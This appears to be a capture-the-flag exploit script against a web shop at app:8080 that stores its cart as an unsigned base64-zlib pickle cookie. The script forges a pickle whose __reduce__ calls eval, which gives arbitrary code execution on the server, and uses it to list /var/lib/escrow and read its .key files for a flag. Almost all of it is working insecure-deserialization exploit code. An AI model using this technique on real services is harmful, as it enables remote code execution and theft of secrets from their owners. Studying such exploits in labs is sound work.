#-- the shop, and what a cart looks like
curl -s http://app:8080/
thing=$(curl -s http://app:8080/ | grep -o 'we have [a-z]*' | cut -d' ' -f3)
curl -s -c /tmp/jar -o /dev/null http://app:8080/add -d "thing=$thing"
awk '$6 == "cart" {print $7}' /tmp/jar | tee /tmp/cart
python3 -c 'import base64, pickletools, zlib; pickletools.dis(zlib.decompress(base64.urlsafe_b64decode(open("/tmp/cart").read())))'
#-- an unsigned pickle: a cart of one's own whose things are what Python finds
cat > /tmp/cart.py <<'PY'
import base64, pickle, sys, zlib
class Found:
    def __reduce__(self):
        return eval, (sys.argv[1],)
print(base64.urlsafe_b64encode(zlib.compress(pickle.dumps({"version": 2, "things": Found()}))).decode())
PY
cart() { curl -s -b "cart=$(python3 /tmp/cart.py "$1")" http://app:8080/; }
cart '__import__("glob").glob("/var/lib/escrow/*/*")'
#-- read the file
cart '[open(name).read() for name in __import__("glob").glob("/var/lib/escrow/*/*.key")]' | grep -o 'flag{[0-9a-f]*}'
